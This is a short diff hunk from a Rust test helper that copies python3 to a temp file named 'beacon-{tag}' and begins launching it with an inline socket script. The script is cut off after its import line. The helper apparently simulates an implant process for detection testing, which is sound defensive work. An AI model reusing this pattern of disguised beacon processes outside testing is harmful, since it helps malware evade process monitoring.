@@ -159,7 +159,7 @@ fn implant(tag: &str) -> Implant {
     let dir = tempfile::tempdir().expect("temp dir");
     let python = std::fs::canonicalize(common::which("python3").expect("python3")).unwrap();
     let copy = dir.path().join(format!("beacon-{tag}"));
-    std::fs::copy(&python, &copy).expect("copy python3");
+    common::copy_executable(&python, &copy);
     let mut command = Command::new(&copy);
     command.arg("-c").arg(
         "import socket, time\n\
